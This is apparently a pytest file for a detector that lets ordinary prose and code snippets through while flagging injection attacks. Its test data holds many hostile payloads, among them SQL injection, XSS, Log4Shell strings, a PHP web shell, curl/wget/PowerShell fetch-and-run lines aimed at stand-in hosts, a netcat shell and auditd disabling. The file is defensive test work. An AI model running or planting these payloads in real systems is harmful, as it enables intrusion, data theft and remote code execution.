"""Texts that show code: documentation, prompts, traces and issues pass; what breaks out of them is found."""

from __future__ import annotations

import json

import pytest

from injection_harness import SQL, XSS, as_json, post, query, said
from sallygate.controls.injection.pipeline.code_in_prose import code_parts, without_code

HONEST = {
    "fence": "To install the package run\n\n```bash\npip install it && export PATH=$HOME/bin:$PATH\ncurl -sSf https://a.example/i | sh\n```\n",
    "fence in a list": "Three steps are enough:\n\n1. ```sh\n   $ make build | tee log\n   ```\n2. wait\n",
    "tildes": "An example of a query:\n\n~~~sql\nSELECT a, b FROM t WHERE c = 'd' GROUP BY a\n~~~\nIt lists both.",
    "a fence that goes on to the end": "How do I read this variable?\n\n```python\nimport os\nprint(os.environ['HOME'])\n",
    "span": "I tried `find / -size +1M | xargs ls -lh | sort` but it takes too long.",
    "statement in a span": "Please explain what `SELECT * FROM users WHERE id = 1` does.",
    "statement in a span, after one": "Does `DROP TABLE users;` differ from `DELETE FROM users`?",
    "what a script asks": "Build it:\n\n```bash\ndocker rm $(docker ps -aq)\nexport V=$(git describe --tags) ARCH=$(uname -m)\n```\n",
    "what an interpreter is asked": "Set it yourself:\n\n```bash\nexport P=$(python3 -c 'import sys; print(sys.base_prefix)')\n```\n",
    "quoted strings of a shell": "Then run this, please:\n\n```bash\necho \"done\"; ls 'a b'; cat 'x.txt' | sort\n```\n",
    "double span": "Fix annotations for the ``query`` parameter and ``sh`` completion of the tool.",
    "indented": "The following installs all of them:\n\n    $ pip install a\n    $ python -m a | less\n\nThen go on.",
    "prompts": "What does this print, please?\n>>> import os\n>>> os.listdir('.')\n",
    "Java trace": 'java.lang.NullPointerException: Cannot invoke "x"\n\tat com.acme.Cart.total(Cart.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:840)',
    "Python trace": 'Traceback (most recent call last):\n  File "/srv/app/a.py", line 3, in <module>\n    os.environ["A"]\nKeyError: \'A\'',
    "statement": "Explain this query: SELECT u.name, COUNT(*) FROM users u LEFT JOIN orders o ON o.id = u.id GROUP BY u.name HAVING COUNT(*) > 3;",
    "program": "Refactor:\n\nconst el = document.querySelector('#a'); el.onclick = () => alert(get(window, 'a'));",
    "notebook": "!pip install pandas\nimport pandas as pd\ndf = pd.read_sql('SELECT * FROM t WHERE a > 1', con)\ndf.head()",
    "JSX": "<Button onClick={() => close('hi')}> crashes when it is rendered twice",
    "property of an error": "TypeError: Cannot read properties of undefined (reading '__proto__')",
    "links": 'See [pip](https://pip.pypa.io) and [`tests/`](./tests/) and ["spec"](http://www.example.org/spec).',
    "substitutions": "|Python 3.x| |License|\n\npip is the package installer for Python.",
    "dashboard": "SELECT $__timeGroup(ts, '5m') AS time, count(*) FROM hits WHERE $__timeFilter(ts) GROUP BY 1",
    "dashboard link": "/d/abc?var-host=${__data.fields.host}",
}


@pytest.mark.parametrize("name", HONEST)
def test_what_documents_and_people_write_passes(name: str) -> None:
    text = HONEST[name]
    assert said(as_json({"messages": [{"role": "user", "content": text}]})) == []
    part = f'--X\r\nContent-Disposition: form-data; name="a"\r\n\r\n{text}\r\n--X--\r\n'
    assert said(post(part, "multipart/form-data; boundary=X")) == []


PROSE = "Hello, could you please look at the following lines for me? {} Thank you very much for the help."
OUTSIDE = [
    "```sh\nls\n```\n; wget http://a.example/x | sh",
    "`ls` && curl http://a.example/x | sh",
    "```\nx\n```\n' or '1'='1",
    "`a` <script>alert(1)</script>",
    "`a`; DROP TABLE users; --",
    "[x](https://a.example/) $(curl http://a.example/x)",
]
WITHIN = [
    "```\n' union select a,b from users-- \n```",
    "`' or '1'='1`",
    "```sql\n1' or '1'='1' -- \n```",
    '```\n"; DROP TABLE users; --\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "`; cat /etc/passwd`",
    "```\n| nc a.example 80 -e /bin/sh\n```",
    "`&& wget http://a.example/x`",
    "`$(curl http://a.example/x)`",
    "```\ncat ../../../../etc/passwd\n```",
    "`{{7*7}}`",
    "`${jndi:ldap://a.example/x}`",
    "```php\n<?php system($_GET['c']); ?>\n```",
    "    ' union select a,b from users-- ",
    "[' or '1'='1](https://a.example/)",
    "|<script>alert(1)</script>|",
    "x' or `id`=`id` -- y",
    "' union select `password` from `users` -- ",
    '\n[a](https://b.example/ "<script>alert(1)</script>")',
    "```x; cat /etc/passwd\nls\n```",
    "PS '; DROP TABLE x--> ls",
    "a@b:'or'1'='1$ ls",
    "$ '; cat /etc/passwd",
    "<button onclick={alert`1`}>",
    "';alert `1`//",
    "javascript:alert`1`",
    "<a href=javascript:alert`1`>x</a>",
    "{{constructor.constructor`alert(1)```}}",
    "at com.acme.Cart.total(Cart.java:42)' union select a,b from users-- ",
    "```bash\nsudo apt install ./tool_$(curl -s http://a.example/x.sh|sh)_amd64.deb\n```",
    "```sh\necho $(id>/tmp/o) && printf '$(wget${IFS}-qO-${IFS}http://a.example/p|sh)'\n```",
    "    at com.acme.Pool.get(Pool.java:$(id>/tmp/o))",
    "`cat <(wget -qO- http://a.example/i|bash)`",
    "```python\nprint('; id | nc 192.0.2.10 80; echo ')\n```",
    "```\nwait'; systemctl disable --now auditd # \n```",
    "```powershell\nWrite-Host $([Net.WebClient]::new().DownloadString('http://a.example/a.ps1')|iex)\n```",
    "```sql\nSELECT * FROM t WHERE a = x' OR 1=(SELECT count(*) FROM users) OR 'b'='\n```",
    "```\ncp: cannot create file x'||(SELECT string_agg(name, ',') FROM users)||': Permission denied\n```",
]


ACROSS = [
    "dear friend';\n drop table users -- ",
    "dear friend'; \n update users set admin=1 where name='me",
    "dear friend');\n drop table users; -- ",
    "dear friend'\n\n    union select name, password from users\n\n-- x",
    "dear friend'\n\n    || (select password from users limit 1) ||\n\n' thanks",
    "x' or\n\n    1=1 or 1 in (select 1)\n\n-- hello good friend",
    "1\n\n    union select name,pass from users\n\n-- hello good friend",
    "1\n\n    and (select 1 from pg_sleep(10))=1\n\n-- hello good friend",
    "1;\n\n    exec xp_cmdshell('whoami')\n\n-- hello good friend",
    "hello dear friend |wget evil.example/x|sh",
    "dear friend my name is `';alert(1)//` is nice",
    'hello `";document.location=name//` my dear friend',
    'dear friend my name ";\n\n    curl evil.example/x | sh\n\n"',
    "- ~~~1 union select name,pass from users -- \n/*\n~~~\nhello my good friend",
]
"""Attacks of which a half stands in a part that shows code."""


@pytest.mark.parametrize("attack", ACROSS)
def test_a_text_that_goes_on_in_its_code_is_judged_as_a_whole(attack: str) -> None:
    assert said(as_json({"a": attack})) != []


def test_one_finding_hides_no_other_in_a_document_within_a_string() -> None:
    excluded = 'exclude: [{family: sql, field: "body:/x/note"}]'
    inner = json.dumps({"cmd": SQL, "note": SQL})
    assert said(as_json({"x": inner}), excluded) == ["sql body:/x/cmd"]
    shown = json.dumps({"a": "$(curl http://a.example/x)", "b": HONEST["fence"] + "x; curl http://e/x | sh\n"})
    assert said(as_json({"x": shown})) != []


@pytest.mark.parametrize("attack", OUTSIDE)
def test_code_is_no_pass_for_what_stands_beside_it(attack: str) -> None:
    assert said(as_json({"a": PROSE.format(attack)})) != []


@pytest.mark.parametrize("attack", WITHIN)
def test_what_breaks_out_of_the_text_is_found_in_code_too(attack: str) -> None:
    assert said(as_json({"a": PROSE.format(f"\n\n{attack}\n\n")})) != []


@pytest.mark.parametrize("value", ["`id`", "```\nid; ls\n```", "`curl http://a.example/x | sh`"])
def test_code_without_prose_is_no_text(value: str) -> None:
    assert said(as_json({"a": value})) != []


def test_in_a_query_a_text_is_judged_as_before() -> None:
    assert said(query(PROSE.format("`; cat /etc/passwd`"))) != []
    assert said(query(PROSE.format("`find / | xargs rm`"))) != []


def test_strict_passes_no_code() -> None:
    assert said(as_json({"a": HONEST["span"]}), "sensitivity: strict") != []


def test_parts_and_what_is_left() -> None:
    text = "Use `a|b` here:\n\n```sh\nls | wc\n```\n\nand [c](https://d.example/e) there, ok."
    parts = code_parts(text)
    assert [(part.kind, part.code) for part in parts] == [
        ("span", "a|b"), ("block", "ls | wc\n"), ("mark", "c"), ("mark", "https://d.example/e"),
    ]  # fmt: skip
    assert without_code(text, parts) == "Use that here:\n\n\n\nand that there, ok."


@pytest.mark.parametrize(
    "text",
    [
        "`" * 100_000,
        "`a" * 50_000,
        "```\n" * 30_000,
        "[a](" * 40_000,
        ":\nselect " * 20_000,
        "hello\n\n" + "a(:\n" * 40_000,
        "hello\n\n" + "a = b:\n" * 25_000,
        "> " * 80_000,
        "    a\n" * 30_000,
    ],
)
def test_reading_is_linear(text: str) -> None:
    code_parts(text[:200_000])


def test_many_findings_in_a_document_of_texts() -> None:
    issue = {"title": "It crashes", "body": HONEST["fence"], "comments": [{"body": HONEST["span"]}] * 50}
    assert said(as_json(issue)) == []
    issue["comments"] = [{"body": HONEST["span"]}] * 50 + [{"body": XSS}]
    assert said(as_json(issue)) == ["xss body:/comments/50/body"]
    assert said(as_json({**issue, "title": SQL}))[0] == "sql body:/title"
    assert said(post(json.dumps({"a": HONEST["fence"]}), "text/plain")) == []
